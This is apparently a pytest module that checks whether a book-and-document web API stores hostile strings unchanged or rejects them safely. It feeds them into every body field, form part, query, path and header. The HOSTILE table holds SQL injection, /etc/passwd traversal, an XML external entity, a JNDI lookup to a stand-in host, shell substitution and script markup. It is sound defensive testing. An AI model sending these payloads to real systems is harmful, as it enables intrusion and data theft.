"""Hostile strings in every string of a request: each is stored unchanged, or rejected.

The strings are those that the OpenAPI document lists, so that a new field is tested as well.
"""

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from httpx import AsyncClient, Response

from app.core.db import Database
from app.documents.file_fields import clean_filename
from app.users.schemas import normalize_email
from tests.support.accounts import PASSWORD_HASH
from tests.support.callers import GENERATED_CASES, PASSWORD, add_callers, email_of_caller
from tests.support.factories import Json, make_author, make_book, make_document, make_user
from tests.support.multipart import form_field, form_file, form_part, send_form
from tests.support.openapi_schemas import merge_reference
from tests.support.problems import PROBLEM_MEMBERS
from tests.support.requests import create_row

HOSTILE = {
    "a quote and SQL": "'; DROP TABLE authors; --",
    "SQL that is true": "' OR '1'='1",
    "a union": '" UNION SELECT password_hash FROM users --',
    "a dollar quote": "$$; SELECT pg_sleep(10); $$",
    "a bind parameter": ":name $1 %s %(name)s ? @p1",
    "wildcards": "%_%\\%",
    "a regular expression": "(a+)+$.*[",
    "operators of a search": "a & !b | (c <-> d):*",
    "a cast": "1::int",
    "NUL": "a\0b",
    "only NUL": "\0",
    "control characters": "".join(map(chr, range(1, 32))),
    "more control characters": "".join(map(chr, range(127, 160))),
    "terminal escapes": "\x1b[2J\x1b]0;title\x07",
    "a carriage return and a header": "a\r\nX-Injected: yes",
    "a second response": "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    "line separators": "a\u2028b\u2029c\x85d\x0be",
    "blanks around": "  a  b  ",
    "tabs and newlines around": "\t\na\n\t",
    "only a blank": " ",
    "blanks of other scripts": "\u00a0\u2003\u3000a\u00a0",
    "right to left": "\u202egnp.exe\u202c \u200f\u0627\u200e \u2066x\u2069",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "a soft hyphen": "a\u00adb",
    "many marks": "Z" + "\u0351\u0327\u0322\u0310" * 20,
    "only a mark": "\u0301",
    "a family": "👩\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 👍🏽 🇩🇪",
    "composed": "Garc\u00eda \u212b \u1e69",
    "decomposed": "Garci\u0301a A\u030a s\u0323\u0307",
    "marks in another order": "s\u0307\u0323",
    "compatible characters": "\ufb01 \u2460 \uff21 \u00bd \u1d2c \uff07",
    "quotes of other scripts": "\u02bc \u2019 \uff02 \u00b4",
    "a dotted i": "\u0130\u0131Ii \u017f ß ẞ",
    "a title case": "ǅ ŉ",
    "astral": "\U0001d4b0\U00020000\U0010fffd",
    "noncharacters": "\ufffe\uffff\U0001ffff\U0010ffff",
    "private": "\ue000\uf8ff",
    "the replacement": "\ufffd",
    "escapes as text": "\\u0000 \\ud800 &#0; %00 %0d%0a \\x00",
    "a path": "../../../../etc/passwd",
    "another system's path": "..\\..\\C:\\con\\aux",
    "a percent at the end": "100%",
    "a bad percent": "%zz%",
    "formats": "%s%n%x%d {0} {0.__class__} %(x)s",
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%x%} @(7*7)",
    "a look-up": "${jndi:ldap://x.example.com/a}",
    "markup": '<script>alert(1)</script>"><img src=x onerror=alert(1)> &amp;',
    "an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "a shell": "`id` $(id) | id & ; id\n",
    "a formula": "=1+1 @SUM(A1) +1 -1",
    "a prototype": "__proto__",
    "a constructor": "constructor.prototype",
    "words": "null None undefined NaN true",
    "numbers": "1e400 -0 0x1F 1_000 ٣",
    "JSON": '{"a": [1, null], "b": "\\""}',
    "quotes": '"\'`\\"',
    "one letter": "a",
    "empty": "",
    "200 letters": "a" * 200,
    "1,000 astral letters": "😀" * 1000,
    "60,000 letters": "a" * 60_000,
}
# Passed instead of a value that the response may repeat, for example in `instance`.
NOT_SENT = "not part of the request"
hostile = pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())


def check_rejection(response: Response, value: str) -> bool:
    """Return whether a response is a problem.

    Fails if it is a server error, or if a problem repeats the value that the client has sent.
    """
    assert response.status_code < 500, response.text
    if not response.is_client_error:
        return False
    problem = response.json()
    assert response.headers["content-type"] == "application/problem+json"
    assert set(problem) - {"errors"} == PROBLEM_MEMBERS
    del problem["instance"]
    assert len(value) < 9 or value not in json.dumps(problem, ensure_ascii=False)
    assert "x-injected" not in response.headers
    return True


def paths_of_strings(
    document: Json, schema: Json, example: Any, *path: Any
) -> Iterator[tuple[Any, ...]]:
    """Yield the path of each string of a body, for example `("items", 0, "title")`.

    Strings that `example` does not contain are included.
    """
    schema = merge_reference(document, schema)
    for option in schema.get("anyOf", ()):
        yield from paths_of_strings(document, option, example, *path)
    if schema.get("type") == "string":
        yield path
    for name, field_schema in schema.get("properties", {}).items():
        yield from paths_of_strings(document, field_schema, example, *path, name)
    if "items" in schema:
        yield from paths_of_strings(document, schema["items"], example, *path, 0)


def replace_value(body: Any, path: tuple[Any, ...], value: str) -> Any:
    """Return a copy of a body with another value at a path such as `("items", 0, "title")`."""
    if not path:
        return value
    head, *rest = path
    # A list that the example leaves out has no items.
    items = body or [None]
    inner = items[head] if isinstance(head, int) else body.get(head)
    changed = replace_value(inner, tuple(rest), value)
    return [changed] if isinstance(head, int) else {**body, head: changed}


def find_value(body: Any, path: tuple[Any, ...]) -> Any:
    """Return the value at a path such as `("items", 0, "title")`."""
    for key in path:
        body = body[key]
    return body


def stored_form(name: str, value: str) -> str | None:
    """Return a string as responses show it. Only emails and filenames are not shown as sent."""
    return {"email": normalize_email, "filename": clean_filename}.get(name, str)(value)


@pytest.fixture
async def resource_ids(client: AsyncClient) -> dict[str, Any]:
    """The id of one resource of each kind, by the first segment of its path, such as "books"."""
    author, user = await make_author(client), await make_user(client, "somebody@example.com")
    book, document = await make_book(client, author_id=author["id"]), await make_document(client)
    rows = {"authors": author, "books": book, "users": user, "documents": document}
    for case in GENERATED_CASES:
        rows[case.path[1:]] = await create_row(client, case)
    return {name: row["id"] for name, row in rows.items()}


@pytest.mark.slow
@hostile
async def test_string_in_body_is_stored_unchanged_or_rejected(
    client: AsyncClient, document: Json, resource_ids: dict[str, Any], value: str
) -> None:
    tried = 0
    for template, item in document["paths"].items():
        for method, operation in item.items():
            content = operation.get("requestBody", {}).get("content", {}).get("application/json")
            if content is None:
                continue
            example = json.loads(
                json.dumps(content["example"]).replace(
                    "0199b2f4-c0de-7000-a000-000000000000", resource_ids["authors"]
                )
            )
            path = template.format(id=resource_ids.get(template.split("/")[1]))
            for place in paths_of_strings(document, content["schema"], example):
                tried += 1
                body = replace_value(example, place, value)
                response = await client.request(method, path, json=body)
                is_rejected = check_rejection(response, value)
                if not is_rejected and response.status_code != 204:
                    await assert_stored_unchanged(client, response, place, value)
    assert tried >= 20


async def assert_stored_unchanged(
    client: AsyncClient, response: Response, path: tuple[Any, ...], value: str
) -> None:
    """Check that the response, and a later GET, contain the value. Delete what was created."""
    body = response.json()
    name = str(path[-1])
    if "password" in name or "parts" in body:
        # No response contains a password or the parts of an upload.
        assert value not in response.text or len(value) < 9
    else:
        assert find_value(body, path) == stored_form(name, value)
        later_response = await client.get(
            response.headers.get("location", response.request.url.path)
        )
        if later_response.status_code == 200:
            assert find_value(later_response.json(), path) == stored_form(name, value)
    if "location" in response.headers and "parts" not in body:
        assert (await client.delete(response.headers["location"])).status_code == 204


@hostile
async def test_string_in_form_is_stored_unchanged_or_rejected(
    client: AsyncClient, value: str
) -> None:
    document = f"/documents/{(await make_document(client))['id']}"
    raw = value.encode()
    quoted = raw.replace(b"\\", b"\\\\").replace(b'"', b"%22")
    for method, path in (("POST", "/documents"), ("PATCH", document)):
        response = await send_form(client, method, path, form_field("name", raw))
        if not check_rejection(response, value):
            there = await client.get(response.headers.get("location", document))
            assert response.json()["name"] == there.json()["name"] == value
        response = await send_form(
            client, method, path, form_field("name", "x"), form_file(b"x", quoted)
        )
        if not check_rejection(response, value) and response.json()["filename"]:
            there = await client.get(response.headers.get("location", document))
            assert response.json()["filename"] == there.json()["filename"]
            if value.isalnum():
                assert response.json()["filename"] == value[-255:]
        for head in (
            b'Content-Disposition: form-data; name="' + quoted + b'"',
            b"Content-Disposition: " + raw,
            b"Content-Disposition: form-data; name=name; filename*=UTF-8''" + raw,
            b'Content-Disposition: form-data; name="name"\r\nContent-Type: ' + raw,
            b'Content-Disposition: form-data; name="name"\r\nContent-Transfer-Encoding: ' + raw,
            b'Content-Disposition: form-data; name="name"\r\n' + raw,
        ):
            check_rejection(
                await send_form(client, method, path, form_part(head, content=b"x")), NOT_SENT
            )
        for kind in (b"multipart/form-data; boundary=" + raw, b"multipart/form-data; " + raw, raw):
            headers = {b"Content-Type": kind}
            check_rejection(await client.request(method, path, content=raw, headers=headers), value)


@pytest.mark.slow
@hostile
async def test_string_in_query_is_accepted_or_rejected(
    client: AsyncClient, document: Json, value: str
) -> None:
    value = value[:20_000]  # httpx rejects longer URLs
    author = await make_author(client)
    for template, item in document["paths"].items():
        for parameter in item.get("get", {}).get("parameters", ()):
            if parameter["in"] == "query":
                path = template.format(id=author["id"])
                query = {parameter["name"]: value}
                check_rejection(await client.get(path, params=query), value)
    assert check_rejection(await client.get("/authors", params={value: "x"}), NOT_SENT)


@hostile
async def test_string_in_path_is_rejected_as_id(
    client: AsyncClient, document: Json, value: str
) -> None:
    value = value[:20_000]
    for template, item in document["paths"].items():
        for method in item if value and "{" in template else ():
            for written in {quote(value, safe=""), quote(value)}:
                path = template.format(id=written, upload_id=written)
                assert check_rejection(await client.request(method, path), NOT_SENT), path


# Request headers that clients send and that proxies do not remove.
HEADERS = [
    *("Accept", "Accept-Encoding", "Authorization", "Content-Encoding", "Content-Length"),
    *("Content-Type", "Cookie", "Expect", "Forwarded", "Host", "Idempotency-Key", "If-Match"),
    *("If-Modified-Since", "If-None-Match", "Origin", "Range", "Referer", "Traceparent"),
    *("Tracestate", "User-Agent", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Prefix"),
    *("X-Forwarded-Proto", "X-HTTP-Method-Override", "X-Request-ID", "X-Unknown"),
]


@pytest.mark.slow
@hostile
async def test_string_in_header_is_accepted_or_rejected(client: AsyncClient, value: str) -> None:
    author = await make_author(client)
    path = f"/authors/{author['id']}"
    for name in HEADERS:
        headers = {name.encode(): value.encode()}
        body = {b"Content-Type": b"application/json"} | headers
        for response in (
            await client.request("DELETE" if name == "If-Match" else "GET", path, headers=headers),
            await client.post("/authors", content=b'{"name": "Ursula"}', headers=body),
        ):
            check_rejection(response, value)
            sent = name == "X-Request-ID" and value.isascii() and value.isprintable()
            if not (sent and 0 < len(value) <= 128 and " " not in value):
                assert response.headers["x-request-id"] != value


@hostile
async def test_string_in_login_form_is_stored_or_rejected(
    client: AsyncClient, database: Database, value: str
) -> None:
    await add_callers(database, PASSWORD_HASH)
    form = {"username": email_of_caller("owner"), "password": PASSWORD}
    without_effect = dict.fromkeys(("scope", "client_id", "client_secret"), value)
    for changed in ({"username": value}, {"grant_type": value}, {value: "x"}):
        response = await client.post("/tokens", data=form | changed)
        assert (
            check_rejection(response, NOT_SENT) or not value
        )  # an empty form field counts as absent
    response = await client.post("/tokens", data=form | without_effect | {"name": value})
    if not check_rejection(response, value) and value:
        headers = {"Authorization": f"Bearer {response.json()['access_token']}"}
        tokens = (await client.get("/tokens", headers=headers)).json()["items"]
        assert value in {token["name"] for token in tokens}
